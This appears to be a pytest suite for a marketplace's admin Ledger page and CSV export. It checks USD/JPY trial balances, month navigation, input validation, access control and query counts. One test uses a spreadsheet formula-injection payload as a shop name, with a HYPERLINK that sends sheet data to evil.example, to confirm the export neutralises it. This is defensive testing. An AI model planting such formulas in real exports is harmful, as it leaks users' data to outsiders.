"""The console's Ledger page: the ledger's monthly report for an accountant. Paid destination charges
through the sandbox in USD ($100.00, fee 10% + 30¢, Stripe's $3.20) and JPY (¥10,000, fee 10%, Stripe's
¥360): each currency's table shows what the ledger holds for every account, the shops' accounts by
shop, and debits equal credits. The month links stop at the months the ledger spans (this one
included), and a month that is not one, or is outside them, says so beside the box; only admins see it;
the queries do not grow with the accounts."""

from __future__ import annotations

import csv
import io
import re
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest
import requests
from django.test import Client
from django.utils import timezone

from frontend import console_ledger
from marketplace.ledger.chart import APPLICATION_FEES, BUYER_PAYMENTS, AccountCode, AccountRef, stripe_balance
from marketplace.ledger.models import LedgerTransaction
from marketplace.ledger.selectors import MonthlyReport, ReportLine, ledger_balance
from sellers.models import Seller
from tests.factories import UserFactory, make_platform_admin
from tests.ledger.helpers import post_together, sale
from tests.orders.conftest import active_seller, default_fees, signed_in  # noqa: F401 - default_fees: autouse
from tests.payments.helpers import assert_ledger_equals_stripe
from tests.payouts.helpers import advance, paid_order

pytestmark = pytest.mark.django_db

ROW = re.compile(
    r'data-testid="ledger-row" data-code="(\w+)" data-stripe-account="(\w*)" '
    r'data-debits="(\d+)" data-credits="(\d+)" data-net="(-?\d+)"'
)
SECTION = re.compile(r'data-testid="ledger" data-currency="(\w+)" data-debits="(\d+)" data-credits="(\d+)"')


def clear_of_a_month_end(sandbox: Any, minutes: int = 20) -> None:
    """Move the sandbox's clock past a month's end (site time zone) that falls within `minutes`, so the
    test's payments, which Stripe dates, all land in one month (the test's report)."""
    now = requests.get(f"{sandbox.url}/_sandbox/clock", timeout=30).json()["now"]
    zone = timezone.get_default_timezone()
    here = datetime.fromtimestamp(now, tz=zone)
    later = here + timedelta(minutes=minutes)
    if (later.year, later.month) != (here.year, here.month):
        first = later.replace(day=1, hour=0, minute=0, second=0, microsecond=0)
        advance(sandbox, int((first - here).total_seconds()) + 60)


def paid_in_usd_and_jpy(sandbox: Any) -> tuple[Seller, Seller, str]:
    """A $100.00 and a ¥10,000 sale of two shops, and the month (YYYY-MM) Stripe dated both in."""
    clear_of_a_month_end(sandbox)
    usd, jpy = active_seller(sandbox), active_seller(sandbox, currency="jpy", shop="Kyoto Paper")
    paid_order(sandbox, usd, 10_000)
    paid_order(sandbox, jpy, 10_000)
    zone = timezone.get_default_timezone()
    [month] = {f"{t.astimezone(zone):%Y-%m}" for t in LedgerTransaction.objects.values_list("occurred_at", flat=True)}
    return usd, jpy, month


def rows_of(page: str) -> dict[tuple[str, str, str], tuple[int, int, int]]:
    """(currency, code, Stripe account) -> (debits, credits, net) of every row, each under its section."""
    rows = {}
    for part in re.split(r'(?=data-testid="ledger" )', page)[1:]:
        [currency] = re.findall(r'data-currency="(\w+)"', part)[:1]
        for code, account, debits, credits, net in ROW.findall(part):
            rows[(currency, code, account)] = (int(debits), int(credits), int(net))
    return rows


def test_each_currency_shows_what_the_ledger_holds_and_debits_equal_credits(sandbox: Any) -> None:
    usd, jpy, month = paid_in_usd_and_jpy(sandbox)
    admin = signed_in(make_platform_admin(email="root@example.com"))
    response = admin.get("/console/ledger/", {"month": month})
    assert response.status_code == 200
    page = response.content.decode()

    rows = rows_of(page)
    # Every movement is in this month: each account's net change is its balance in the ledger.
    for (currency, code, account), (_, _, net) in rows.items():
        assert ledger_balance(account=AccountRef(AccountCode(code), account))[currency] == net, (code, account)
    for seller, currency in ((usd, "usd"), (jpy, "jpy")):
        assert {a for c, _, a in rows if c == currency} == {"", seller.stripe_account_id}
    assert rows[("usd", str(BUYER_PAYMENTS.code), "")] == (0, 10_000, 10_000)
    assert rows[("usd", str(APPLICATION_FEES.code), "")] == (0, 1_030, 1_030)
    assert rows[("jpy", "stripe_fees", "")] == (360, 0, 360)
    assert rows[("jpy", "stripe_balance", "")] == (10_000 + 1_000, 10_000 + 360, 640)  # the platform keeps ¥640
    seller_balance = ("jpy", "stripe_balance", str(jpy.stripe_account_id))
    assert rows[seller_balance][2] == ledger_balance(account=stripe_balance(str(jpy.stripe_account_id)))["jpy"] == 9_000

    # A trial balance per currency: the totals equal, and the page says so in the currency's money.
    sections = {c: (int(d), int(k)) for c, d, k in SECTION.findall(page)}
    for currency in ("usd", "jpy"):
        debits = sum(d for (c, _, _), (d, _, _) in rows.items() if c == currency)
        credits = sum(k for (c, _, _), (_, k, _) in rows.items() if c == currency)
        assert sections[currency] == (debits, credits) and debits == credits
    assert "debits and credits are both $" in page and "debits and credits are both ¥" in page
    assert "¥10,000" in page and "$100.00" in page and "¥10,000.00" not in page  # JPY has no decimals
    assert 'role="alert"' not in page
    # A shop's account says whose: the shop, linked to its console page, and its Stripe account.
    shop = f'<a href="/console/sellers/{jpy.pk}/">Kyoto Paper</a> <code class="break-any">{jpy.stripe_account_id}<'
    assert shop in page
    assert "Stripe balance — platform" in page
    assert_ledger_equals_stripe()

    # The CSV: the same figures, in minor units.
    download = admin.get("/console/ledger.csv", {"month": month})
    assert download["Content-Disposition"] == f'attachment; filename="ledger-{month}.csv"'
    lines = list(csv.DictReader(io.StringIO(download.content.decode())))
    codes = {(r["account"], r["stripe_account"]): r["kind"] for r in lines}
    assert codes[("Application fees paid", str(usd.stripe_account_id))] == "contra_revenue"
    assert {(r["currency"], int(r["debits"]), int(r["credits"]), int(r["net_change"])) for r in lines} == {
        (c, *figures) for (c, _, _), figures in rows.items()
    }
    assert {r["month"] for r in lines} == {month} and len(lines) == len(rows)


def _ledger_from_august_to_october_2026(monkeypatch: pytest.MonkeyPatch) -> Client:
    """Sales in August and October 2026, none in September; the console's today is 15 November 2026."""
    for n, day in ((1, datetime(2026, 8, 10, 12, tzinfo=UTC)), (2, datetime(2026, 10, 20, 12, tzinfo=UTC))):
        post_together(postings=sale(n, seller="acct_1LedgerShop"), occurred_at=day)
    monkeypatch.setattr(console_ledger.timezone, "now", lambda: datetime(2026, 11, 15, 9, 0, tzinfo=UTC))
    return signed_in(make_platform_admin(email="root@example.com"))


def test_moving_between_months_and_an_empty_month(monkeypatch: pytest.MonkeyPatch) -> None:
    admin = _ledger_from_august_to_october_2026(monkeypatch)
    page = admin.get("/console/ledger/", {"month": "2026-08"}).content.decode()
    assert 'href="?month=2026-09" rel="next"' in page and 'value="2026-08"' in page
    empty = admin.get("/console/ledger/", {"month": "2026-09"}).content.decode()
    assert 'href="?month=2026-08" rel="prev"' in empty and 'href="?month=2026-10" rel="next"' in empty
    assert "Nothing moved in September 2026" in empty
    assert 'data-testid="ledger"' not in empty and "Download CSV" not in empty


def test_the_months_links_stop_at_the_first_month_with_entries_and_at_this_month(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """A crawler once walked from month to month back to January 2000 and on to December 9998."""
    admin = _ledger_from_august_to_october_2026(monkeypatch)
    first = admin.get("/console/ledger/", {"month": "2026-08"}).content.decode()
    assert 'rel="prev"' not in first
    this_month = admin.get("/console/ledger/").content.decode()  # November: nothing yet, and the last
    assert "<h1>Ledger: November 2026</h1>" in this_month and "Nothing moved in November 2026" in this_month
    assert 'href="?month=2026-10" rel="prev"' in this_month and 'rel="next"' not in this_month


@pytest.mark.parametrize("typed", ["2026-07", "2026-12", "2000-01", "9998-12"])
def test_a_month_outside_the_ledger_says_which_months_it_has(monkeypatch: pytest.MonkeyPatch, typed: str) -> None:
    admin = _ledger_from_august_to_october_2026(monkeypatch)
    for url in ("/console/ledger/", "/console/ledger.csv"):
        response = admin.get(url, {"month": typed})
        assert response.status_code == 200 and response["Content-Type"].startswith("text/html")
        page = response.content.decode()
        sentence = "Pick a month from August 2026 to November 2026: the ledger has no entries in other months."
        assert re.search(r'id="id_month_error"[^>]*>.*' + re.escape(sentence), page, re.S), page
        assert 'aria-describedby="id_month_error"' in page and "autofocus" in page
        assert 'data-testid="ledger"' not in page and "Nothing moved" not in page
        assert 'rel="prev"' not in page and 'rel="next"' not in page
        assert 'href="/console/ledger/">Show this month</a>' in page


def test_with_no_entries_yet_only_this_month_is_shown(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(console_ledger.timezone, "now", lambda: datetime(2026, 11, 15, 9, 0, tzinfo=UTC))
    admin = signed_in(make_platform_admin(email="root@example.com"))
    page = admin.get("/console/ledger/").content.decode()
    assert "Nothing moved in November 2026" in page
    assert 'rel="prev"' not in page and 'rel="next"' not in page
    page = admin.get("/console/ledger/", {"month": "2026-10"}).content.decode()
    assert "Pick November 2026: the ledger has no entries in other months." in page


@pytest.mark.parametrize(("zone", "shown"), [("UTC", "March 2026"), ("Pacific/Kiritimati", "April 2026")])
def test_without_a_month_it_is_this_month_in_the_sites_time_zone(
    settings: Any, monkeypatch: pytest.MonkeyPatch, zone: str, shown: str
) -> None:
    """On 31 March 2026 at 11:00 UTC it is already 1 April at UTC+14."""
    settings.TIME_ZONE = zone
    admin = signed_in(make_platform_admin(email="root@example.com"))
    monkeypatch.setattr(console_ledger.timezone, "now", lambda: datetime(2026, 3, 31, 11, 0, tzinfo=UTC))
    page = admin.get("/console/ledger/").content.decode()
    month = datetime.strptime(shown, "%B %Y")
    assert f"<h1>Ledger: {shown}</h1>" in page and f'value="{month:%Y-%m}"' in page
    assert f"calendar month ({zone})" in page


@pytest.mark.parametrize(
    ("typed", "sentence"),
    [
        ("2026-13", "Pick a month between January 2000 and December 9998."),
        ("2026-00", "Pick a month between January 2000 and December 9998."),
        ("1999-12", "Pick a month between January 2000 and December 9998."),
        ("9999-01", "Pick a month between January 2000 and December 9998."),
        ("abc", console_ledger.MALFORMED),
        ("2026-1", console_ledger.MALFORMED),
        ("2026-11-01", console_ledger.MALFORMED),
        ("\uff12\uff10\uff12\uff16-\uff11\uff11", console_ledger.MALFORMED),  # full-width digits
        ("\u0662\u0660\u0662\u0666-\u0661\u0661", console_ledger.MALFORMED),  # Arabic-Indic, which `\d` takes
        ("9" * 20_000 + "-01", console_ledger.MALFORMED),
    ],
)
def test_a_month_that_is_not_one_says_so_beside_the_box(typed: str, sentence: str) -> None:
    admin = signed_in(make_platform_admin(email="root@example.com"))
    for url in ("/console/ledger/", "/console/ledger.csv"):
        response = admin.get(url, {"month": typed})
        assert response.status_code == 200  # as the console's other filters: the page, never an error
        page = response.content.decode()
        assert response["Content-Type"].startswith("text/html")
        # Beside the box, tied to it (aria-describedby), the cursor in it; no figures, a way back.
        assert re.search(r'id="id_month_error"[^>]*>.*' + re.escape(sentence.replace("'", "&#x27;")), page, re.S)
        assert 'aria-describedby="id_month_error"' in page and "autofocus" in page
        assert 'data-testid="ledger"' not in page and "Nothing moved" not in page
        assert 'href="/console/ledger/">Show this month</a>' in page


def test_an_unbalanced_currency_is_an_alert_not_hidden(monkeypatch: pytest.MonkeyPatch) -> None:
    """Postgres refuses an entry whose legs do not sum to zero, so no posting can make this: the
    report itself is replaced, to show what the page would say."""
    start = datetime(2026, 3, 1, tzinfo=UTC)
    lines = [
        ReportLine(stripe_balance(), "jpy", 1_000, 0),
        ReportLine(BUYER_PAYMENTS, "jpy", 0, 900),
        ReportLine(stripe_balance(), "usd", 500, 0),
        ReportLine(BUYER_PAYMENTS, "usd", 0, 500),
    ]
    report = MonthlyReport(start=start, end=datetime(2026, 4, 1, tzinfo=UTC), lines=lines)
    monkeypatch.setattr(console_ledger, "ledger_monthly_report", lambda *, year, month: report)
    monkeypatch.setattr(console_ledger, "ledger_months", lambda *, current: ((2026, 3), max((2026, 3), current)))
    page = signed_in(make_platform_admin()).get("/console/ledger/", {"month": "2026-03"}).content.decode()
    jpy, usd = page.split('data-currency="usd"')
    assert "Debits (¥1,000) and credits (¥900) differ by ¥100." in jpy and 'role="alert"' in jpy
    assert "The trial balance holds: debits and credits are both $5.00." in usd and 'role="alert"' not in usd


def test_queries_do_not_grow_with_accounts(sandbox: Any, django_assert_num_queries: Any) -> None:
    usd, _, month = paid_in_usd_and_jpy(sandbox)
    admin = signed_in(make_platform_admin(email="root@example.com"))
    # The session and its user; the months the ledger spans; the month's legs, their accounts; the
    # shops of those accounts.
    with django_assert_num_queries(6):
        assert admin.get("/console/ledger/", {"month": month}).status_code == 200
    before = len(rows_of(admin.get("/console/ledger/", {"month": month}).content.decode()))
    paid_order(sandbox, active_seller(sandbox, shop="Third Shop"), 2_500)  # within the month cleared for the test
    paid_order(sandbox, usd, 1_500)
    with django_assert_num_queries(6):
        page = admin.get("/console/ledger/", {"month": month}).content.decode()
    assert len(rows_of(page)) > before
    with django_assert_num_queries(6):
        assert admin.get("/console/ledger.csv", {"month": month}).status_code == 200


@pytest.mark.parametrize("url", ["/console/ledger/", "/console/ledger.csv"])
def test_only_platform_admins_see_it(client: Client, url: str) -> None:
    assert client.get(url)["Location"].startswith("/accounts/login/")
    assert signed_in(UserFactory()).get(url).status_code == 404
    assert signed_in(make_platform_admin()).post(url).status_code == 405


def test_a_shop_named_like_a_formula_is_text_in_the_csv(sandbox: Any) -> None:
    """The shop's name is its seller's to type: in the admin's spreadsheet a name starting with "="
    ran as a formula (a link that sends the sheet's data away). It is written as text instead."""
    clear_of_a_month_end(sandbox)
    shop = '=HYPERLINK("https://evil.example/?"&A1,"Open")'
    seller = active_seller(sandbox, currency="jpy", shop=shop)
    paid_order(sandbox, seller, 10_000)
    [month] = {
        f"{t.astimezone(timezone.get_default_timezone()):%Y-%m}"
        for t in LedgerTransaction.objects.values_list("occurred_at", flat=True)
    }
    admin = signed_in(make_platform_admin(email="root@example.com"))
    lines = list(csv.DictReader(io.StringIO(admin.get("/console/ledger.csv", {"month": month}).content.decode())))
    shops = {r["shop"] for r in lines if r["stripe_account"] == str(seller.stripe_account_id)}
    assert shops == {f"'{shop}"}
    assert all(not r["shop"].startswith(("=", "+", "-", "@")) for r in lines)
    assert {int(r["net_change"]) for r in lines if r["account"] == "Stripe balance" and r["stripe_account"]} == {9_000}
